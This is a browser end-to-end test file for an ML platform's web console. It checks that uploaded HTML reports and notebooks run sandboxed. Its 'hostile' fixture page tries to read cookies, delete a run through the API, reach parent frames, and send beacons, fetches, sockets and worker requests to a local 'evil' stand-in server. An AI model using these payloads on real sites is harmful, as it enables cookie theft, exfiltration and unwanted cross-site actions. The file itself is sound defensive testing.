import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { sow } from './runs-sown.ts'
import type { SownRun } from './runs-sown.ts'
import { describeConsole } from './stage.ts'

/** Reports that were logged with a run or a model are pages of strangers, who may wish to act as whoever looks. */
describeConsole('foreign pages', (stage) => {
  /** Somebody else's site, and what it was asked for. */
  const asked: string[] = []
  const elsewhere = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*')
    response.end('<h1>elsewhere</h1>')
  })
  let evil: string
  let run: SownRun
  let loggedModel: string
  beforeAll(async () => {
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
    evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
    const { runs, experiment } = await sow(stage().platform.url)
    run = runs[0]!
    loggedModel = await madeBy(experiment)
    await put(`runs/${run.id}`, 'report.html', REPORT)
    await put(`runs/${run.id}`, 'notebook.ipynb', notebookOf(REPORT))
    await put(`runs/${run.id}`, 'hostile.html', hostile(evil, stage().platform.url, run.id))
    await put(`runs/${run.id}`, 'refresh.html', refreshing(evil))
    await put(`logged-models/${loggedModel}`, 'report.html', REPORT)
  })
  afterAll(() => elsewhere.close())

  const api = (path: string, init?: RequestInit) =>
    fetch(`${stage().platform.url}/api/v1/projects/default/${path}`, init)
  async function put(of: string, path: string, body: string) {
    const headers = { 'content-type': 'application/octet-stream' }
    const answer = await api(`${of}/files/content?path=${path}`, { method: 'PUT', headers, body })
    expect(answer.status).toBe(201)
  }
  async function madeBy(experiment: string): Promise<string> {
    const body = JSON.stringify({ experiment_ids: [experiment] })
    const headers = { 'content-type': 'application/json' }
    const url = `${stage().platform.url}/api/2.0/mlflow/logged-models/search`
    const { models } = (await (await fetch(url, { method: 'POST', headers, body })).json()) as {
      models: { info: { model_id: string } }[]
    }
    return models[0]!.info.model_id
  }
  const frameOf = (page: Page) => page.frameLocator('iframe')
  const drawnIn = async (page: Page) => {
    await frameOf(page).getByText('drawn by its script').waitFor()
    return frameOf(page)
      .locator('h1')
      .evaluate((heading) => (globalThis as unknown as Styled).getComputedStyle(heading).color)
  }

  test('a report shows with the scripts and styles that it brings: of a run, a logged model, a notebook', async () => {
    const { page, complaints, leave } = await stage().browser.person()
    for (const path of [
      `runs/${run.id}/files?file=report.html`,
      `runs/${run.id}/files?file=notebook.ipynb`,
      `logged-models/${loggedModel}/files?file=report.html`,
    ]) {
      await page.goto(stage().at(`/p/default/${path}`))
      expect(await drawnIn(page), path).toBe('rgb(1, 2, 3)')
    }
    expect(complaints).toEqual([])
    await leave()
  })

  test('a hostile report reaches nothing: no cookie, no address here or elsewhere, no window but its own', async () => {
    const { page, context, leave } = await stage().browser.person()
    const address = stage().at(`/p/default/runs/${run.id}/files?file=hostile.html`)
    await context.addCookies([{ name: 'secret', value: 'kept', url: stage().platform.url }])
    await page.goto(address)
    const told = frameOf(page).locator('#told')
    await told.getByText('over').waitFor()
    const outcomes = JSON.parse((await told.locator('pre').textContent()) ?? '') as Record<string, string>
    expect(Object.keys(outcomes).length).toBeGreaterThan(10)
    expect(Object.entries(outcomes).filter(([, outcome]) => !outcome.startsWith('refused'))).toEqual([])
    await page.waitForTimeout(500)
    expect(page.url()).toBe(address)
    expect(context.pages()).toHaveLength(1)
    expect(asked).toEqual([])
    expect((await api(`runs/${run.id}`)).status).toBe(200)
    expect(await (await api(`runs/${run.id}`)).json()).toMatchObject({ lifecycle: 'active' })
    await leave()
  })

  test('a page that wants to be somewhere else takes its frame nowhere', async () => {
    const { page, leave } = await stage().browser.person()
    const address = stage().at(`/p/default/runs/${run.id}/files?file=refresh.html`)
    await page.goto(address)
    await page.locator('iframe').waitFor()
    await page.waitForTimeout(1500)
    expect(page.url()).toBe(address)
    expect(asked).toEqual([])
    await page.getByRole('heading', { level: 1, name: run.name }).waitFor()
    await leave()
  })

  test('the address of frames shows nothing of anybody by itself, and takes no page from another site', async () => {
    const { page, leave } = await stage().browser.person()
    await page.goto(stage().at('/frame.html'))
    await page.evaluate(`postMessage('<h1>taken</h1>', '*')`)
    await page.goto(evil)
    await page.evaluate((url) => {
      const { document } = globalThis as unknown as { document: Documents }
      const frame = document.createElement('iframe')
      frame.src = url
      document.body.append(frame)
      frame.onload = () => frame.contentWindow?.postMessage('<h1>taken</h1>', '*')
    }, stage().at('/frame.html'))
    await page.waitForTimeout(500)
    expect(await page.frameLocator('iframe').getByText('taken').count()).toBe(0)
    await leave()
    asked.length = 0
  })
})

interface Styled {
  getComputedStyle(of: unknown): { color: string }
}
interface Documents {
  readonly body: { append(element: unknown): void }
  createElement(name: string): {
    src: string
    onload: () => void
    contentWindow: { postMessage(message: string, to: string): void } | null
  }
}

const REPORT = `<!doctype html><html><head><style>h1 { color: rgb(1, 2, 3) }</style></head>
<body><h1>Report</h1><script>document.body.append(new Function('return "drawn by its script"')())</script></body></html>`

const notebookOf = (html: string) =>
  JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: [
      {
        cell_type: 'code',
        execution_count: 1,
        metadata: {},
        source: ['show(report)'],
        outputs: [{ output_type: 'display_data', metadata: {}, data: { 'text/html': [html] } }],
      },
    ],
  })

const refreshing = (evil: string) =>
  `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><h1>gone</h1><script>location = '${evil}/location'</script>`

/** Tries everything that scripts of a page can try, and tells of each how it came out. */
const hostile = (evil: string, server: string, run: string) => `<!doctype html><body><div id="told">running</div>
<img src="${evil}/img"><link rel="stylesheet" href="${evil}/css"><script src="${evil}/js"></script>
<object data="${evil}/object"></object><embed src="${evil}/embed"><iframe src="${evil}/frame"></iframe>
<form id="form" method="post" action="${server}/api/v1/projects/default/runs/${run}"><input name="a" value="b"></form>
<form id="out" method="post" action="${evil}/form" target="_top"><input name="a" value="b"></form>
<a id="top" href="${evil}/top" target="_top">top</a><a id="blank" href="${evil}/blank" target="_blank">blank</a>
<script>
const run = '${server}/api/v1/projects/default/runs/${run}'
const asks = {
  'read here': () => fetch(run).then((answer) => answer.text()),
  'read here blindly': () => fetch(run, { mode: 'no-cors', credentials: 'include' }),
  'delete here': () => fetch(run, { method: 'DELETE', credentials: 'include' }),
  'read elsewhere': () => fetch('${evil}/fetch'),
  'XHR': () => new Promise((resolve, reject) => {
    const asking = new XMLHttpRequest()
    asking.open('GET', run)
    asking.onload = resolve
    asking.onerror = () => reject(new Error('error'))
    asking.send()
  }),
  'socket': () => new Promise((resolve, reject) => {
    const socket = new WebSocket('${evil.replace('http', 'ws')}/socket')
    socket.onopen = resolve
    socket.onerror = () => reject(new Error('error'))
  }),
  'events': () => new Promise((resolve, reject) => {
    const events = new EventSource('${server}/api/v1/events')
    events.onopen = resolve
    events.onerror = () => reject(new Error('error'))
  }),
  'cookies': () => document.cookie,
  'storage': () => localStorage.length,
  'databases': () => new Promise((resolve, reject) => {
    const opening = indexedDB.open('x')
    opening.onsuccess = resolve
    opening.onerror = () => reject(opening.error)
  }),
  'parent': () => parent.document.body,
  'top': () => top.document.cookie,
  'go by top': () => { top.location = '${evil}/top-location'; throw new Error('silently') },
  'go by parent': () => { parent.location.href = '${evil}/parent-location'; throw new Error('silently') },
  'window': () => { if (open('${evil}/open') === null) throw new Error('null') },
  'worker': () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['fetch("${evil}/worker").then(() => postMessage(1), () => postMessage(0))'])))
    worker.onmessage = ({ data }) => data ? resolve(1) : reject(new Error('error'))
    worker.onerror = () => reject(new Error('error'))
  }),
  'service worker': () => navigator.serviceWorker.register('${server}/theme.js'),
  'beacon': () => { navigator.sendBeacon('${evil}/beacon', 'x'); throw new Error('silently') },
  'dialog': () => { if (!confirm('really?')) throw new Error('false') },
  'form here': () => { form.submit(); throw new Error('silently') },
  'form elsewhere': () => { out.submit(); throw new Error('silently') },
  'link to the top': () => { document.getElementById('top').click(); throw new Error('silently') },
  'link to a window': () => { blank.click(); throw new Error('silently') },
}
const within = (promise) => Promise.race([promise, new Promise((_, reject) => setTimeout(reject, 2000, new Error('late')))])
const outcomes = {}
const end = async () => {
  for (const [name, ask] of Object.entries(asks)) {
    try { await within(Promise.resolve(ask())); outcomes[name] = 'done' }
    catch (error) { outcomes[name] = 'refused: ' + error.message }
  }
  told.innerHTML = '<p>over</p><pre></pre>'
  told.querySelector('pre').textContent = JSON.stringify(outcomes)
}
void end()
</script>`
